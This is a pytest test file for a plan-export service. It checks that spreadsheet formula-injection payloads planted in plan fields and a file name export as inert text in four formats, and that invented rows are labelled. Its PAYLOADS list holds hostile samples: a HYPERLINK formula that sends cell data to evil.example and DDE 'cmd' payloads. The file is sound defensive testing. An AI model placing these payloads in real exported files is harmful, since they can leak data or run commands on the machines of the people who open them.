"""Exports a planner opens cannot run anything: formula payloads planted in a plan come back as
the plan's text in all four formats (XLSX: no formula cell; CSV: no cell a spreadsheet would
evaluate), numbers stay numbers; rows of invented plans are marked in the file itself."""

from __future__ import annotations

import csv
import html
import io
import re
import zipfile
from dataclasses import replace

import pytest

from ingest import ingest_paths
from service.workbench.export import (
    COLUMNS,
    DATA_COLUMNS,
    csv_safe,
    data_cells,
    export_rows,
    provenance_note,
    starts_like_formula,
    table_cells,
)

# The payloads of the fault run (issue 19), each a formula a spreadsheet would evaluate.
PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"點我")', "=1+1", "=cmd|' /C notepad'!A1", "=NOW()",
            "+cmd|' /C calc'!A0", "-1+1", "@SUM(A1:A2)"]
FORMATS = ("odt", "docx", "csv", "xlsx")


def payload_plan(folder) -> list:
    """An HTML plan whose measures, actions, owners and benefits are the payloads (a row with
    one action, so the 推動作法 cell starts with the payload too), in a file whose name is one."""
    e = html.escape
    rows = []
    for i, payload in enumerate(PAYLOADS):
        actions = f"<p>{e(PAYLOADS[(i + 1) % 7])}</p>" if i % 2 else f"<p>1. {e(PAYLOADS[(i + 1) % 7])}</p><p>2. 每月檢討辦理情形。</p>"
        rows.append(f"<tr><td>{e(payload)}</td><td>{actions}</td><td>全年辦理</td><td>{e(PAYLOADS[(i + 3) % 7])}</td>"
                    f"<td>{e(PAYLOADS[(i + 2) % 7])}</td></tr>")
    title = "測試市測試區公所112年度提升服務品質執行計畫"
    path = folder / "=1+1 計畫.html"
    path.write_text(f"<html><head><meta charset='utf-8'><title>{title}</title></head><body><h1>{title}</h1>"
                    "<h2>參、實施項目</h2><table><tr><th>實施要項</th><th>推動作法</th><th>完成期限</th><th>承辦單位</th>"
                    f"<th>預期效益</th></tr>{''.join(rows)}</table></body></html>", encoding="utf-8")
    found, report = ingest_paths([path])
    assert report.ok and not report.errors
    return found


@pytest.fixture(scope="module")
def planted(tmp_path_factory):
    rows = payload_plan(tmp_path_factory.mktemp("payloads"))
    # the payloads survived ingest: every field that holds one still starts with it (else the test proves nothing)
    assert [r.measure for r in rows] == PAYLOADS
    assert sum(r.actions[0] in PAYLOADS for r in rows) == 7 and {r.owner for r in rows} == set(PAYLOADS)
    return rows


# -- reading each format back with its library ---------------------------------------------
def read_xlsx(data: bytes) -> tuple[list[list], list[str]]:
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(data)).active
    types = [cell.data_type for row in sheet.iter_rows() for cell in row]
    return [[cell.value for cell in row] for row in sheet.iter_rows()], types


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def read_odt(data: bytes) -> list[list[str]]:
    from odf import teletype
    from odf.opendocument import load
    from odf.table import TableCell, TableRow
    from odf.text import P

    document = load(io.BytesIO(data))
    return [["\n".join(teletype.extractText(p) for p in cell.getElementsByType(P)) for cell in row.getElementsByType(TableCell)]
            for row in document.getElementsByType(TableRow)]


def read_docx(data: bytes) -> list[list[str]]:
    from docx import Document

    return [[cell.text for cell in row.cells] for row in Document(io.BytesIO(data)).tables[0].rows]


def package_text(data: bytes, part: str) -> str:
    return zipfile.ZipFile(io.BytesIO(data)).read(part).decode("utf-8")


# -- the payloads --------------------------------------------------------------------------
def test_xlsx_holds_no_formula_and_the_plans_own_text(planted):
    data = export_rows(planted, "xlsx")
    table, types = read_xlsx(data)
    assert "f" not in types
    assert not re.search(r"<f[ >]", package_text(data, "xl/worksheets/sheet1.xml"))  # no formula element at all
    assert table[0] == list(DATA_COLUMNS)
    for row, cells in zip(planted, table[1:], strict=True):
        expected = data_cells(row)
        assert cells == expected  # the visible text is the plan's, unprefixed
        assert cells[DATA_COLUMNS.index("年度")] == 112 and isinstance(cells[DATA_COLUMNS.index("年度")], int)
    assert sum(starts_like_formula(v) for row in table[1:] for v in row if isinstance(v, str)) >= 7 * 4


def test_csv_has_no_cell_a_spreadsheet_would_evaluate(planted):
    table = read_csv(export_rows(planted, "csv"))
    assert table[0] == list(DATA_COLUMNS)
    cells = [cell for row in table for cell in row]
    assert not [c for c in cells if starts_like_formula(c)]
    for row, read in zip(planted, table[1:], strict=True):
        for value, cell in zip(data_cells(row), read, strict=True):
            text = str(value)
            assert cell == ("'" + text if starts_like_formula(text) else text)  # still readable: one quote in front
    assert read_csv(export_rows(planted, "csv"))[1][DATA_COLUMNS.index("檔案")] == "'=1+1 計畫.html"


@pytest.mark.parametrize("fmt,reader,part,forbidden", [
    ("odt", read_odt, "content.xml", r"table:formula|text:database|office:value-type=\"float\""),
    ("docx", read_docx, "word/document.xml", r"w:instrText|w:fldSimple|w:fldChar|DDEAUTO"),
])
def test_documents_hold_the_payloads_as_plain_text(planted, fmt, reader, part, forbidden):
    data = export_rows(planted, fmt)
    assert not re.search(forbidden, package_text(data, part))
    table = reader(data)
    assert table[0] == list(COLUMNS)
    assert table[1:] == [table_cells(row) for row in planted]


@pytest.mark.parametrize("text,formula", [
    ("=1+1", True), ("+1", True), ("-1+1", True), ("@SUM(A1)", True), ("\t=1+1", True), ("\r=1", True),
    ("  =1+1", True), ("全年辦理", False), ("1. =1+1", False), ("", False), ("a=b", False), ("＝1+1", False),
])
def test_what_counts_as_a_formula_start(text, formula):
    assert starts_like_formula(text) is formula
    assert csv_safe(text) == ("'" + text if formula else text)


def test_tab_and_carriage_return_starts_are_text_in_every_format(planted):
    rows = [replace(planted[0], measure="\t=1+1", benefit="\r=2+2", owner="@A1")]
    csv_cells = read_csv(export_rows(rows, "csv"))[1]
    assert csv_cells[0] == "'\t=1+1" and csv_cells[4] == "'\r=2+2" and csv_cells[3] == "'@A1"
    table, types = read_xlsx(export_rows(rows, "xlsx"))
    assert "f" not in types and table[1][0] == "\t=1+1" and table[1][3] == "@A1"


def test_a_query_with_characters_excel_refuses_in_sheet_names_still_exports(planted):
    table, _ = read_xlsx(export_rows(planted[:1], "xlsx", "參考措施：a/b?[c]*:"))
    assert table[1][0] == PAYLOADS[0]


# -- provenance ----------------------------------------------------------------------------
@pytest.mark.parametrize("fmt", FORMATS)
def test_invented_rows_are_marked_in_a_column_in_the_citation_and_in_a_note(planted, fmt):
    rows = [replace(planted[0], provenance="invented"), planted[1]]
    data = export_rows(rows, fmt)
    note = provenance_note(rows)
    assert note and "1 項" in note and "虛構" in note
    if fmt == "xlsx":
        table, _ = read_xlsx(data)
        assert [r[DATA_COLUMNS.index("資料性質")] for r in table[1:3]] == ["虛構示範", "機關公開計畫"]
        assert table[1][COLUMNS.index("出處")].startswith("【虛構示範】") and not table[2][5].startswith("【")
        assert [r for r in table if r[0] == note]
    elif fmt == "csv":
        table = read_csv(data)
        assert [r[DATA_COLUMNS.index("資料性質")] for r in table[1:3]] == ["虛構示範", "機關公開計畫"]
        assert table[1][5].startswith("【虛構示範】") and table[-1] == [note]
    else:
        table = read_odt(data) if fmt == "odt" else read_docx(data)
        assert table[1][5].startswith("【虛構示範】") and not table[2][5].startswith("【")
        assert note in (package_text(data, "content.xml") if fmt == "odt" else package_text(data, "word/document.xml"))


@pytest.mark.parametrize("fmt", FORMATS)
def test_files_of_published_rows_only_carry_no_invented_note(planted, fmt):
    data = export_rows(planted, fmt)
    text = data.decode("utf-8-sig") if fmt == "csv" else package_text(
        data, {"odt": "content.xml", "docx": "word/document.xml", "xlsx": "xl/worksheets/sheet1.xml"}[fmt])
    assert "虛構" not in text
